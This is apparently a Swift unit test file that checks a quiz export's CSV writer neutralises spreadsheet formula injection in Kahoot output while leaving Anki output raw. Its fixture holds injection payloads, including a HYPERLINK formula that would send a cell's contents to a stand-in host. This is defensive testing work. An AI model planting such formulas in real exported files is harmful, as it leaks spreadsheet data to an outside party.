import Foundation
import QuizBankModel
import Testing

@testable import QuizBankExport

/// Issue 17, Low 15: Kahoot CSV cells a spreadsheet would run as a formula
/// get a leading `'` (OWASP); Anki CSV stays raw text, as Anki reads it.
struct CSVInjectionTests {
  static func hostile() -> Question {
    Question(
      id: "evil", kind: .multipleChoice, prompt: ["en": "=HYPERLINK(\"http://x.example/?\"&A1)"],
      choices: [
        Choice(id: "a", text: ["en": "+1+1"]), Choice(id: "b", text: ["en": "-2+3"]),
        Choice(id: "c", text: ["en": "@SUM(A1:A9)"]), Choice(id: "d", text: ["en": "Plain"]),
      ],
      correct: ["a"])
  }

  @Test func prefixesKahootCellsThatStartAFormula() throws {
    let text = try ExportSamples.text(
      ExportSamples.bundle([Self.hostile()]), .csv, flavor: .kahoot)
    let row = text.split(separator: "\n")[1]
    #expect(
      row
        == "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+1+1,'-2+3,'@SUM(A1:A9),Plain,20,1")
  }

  @Test func leavesAnkiCellsRaw() throws {
    let text = try ExportSamples.text(ExportSamples.bundle([Self.hostile()]), .csv, flavor: .anki)
    #expect(text.contains("\"=HYPERLINK(\"\"http"))
    #expect(!text.contains("'="))
  }

  @Test func theWriterPrefixesOnlyWhenAsked() {
    let neutral = CSVWriter(neutralizesFormulas: true)
    #expect(neutral.quote("=1+2") == "'=1+2")
    #expect(neutral.quote("-") == "'-")
    #expect(neutral.quote("\r=1") == "\"'\r=1\"")
    #expect(neutral.quote("\tcmd") == "'\tcmd")
    #expect(neutral.quote("a=1") == "a=1")
    #expect(CSVWriter().quote("=1+2") == "=1+2")
  }
}
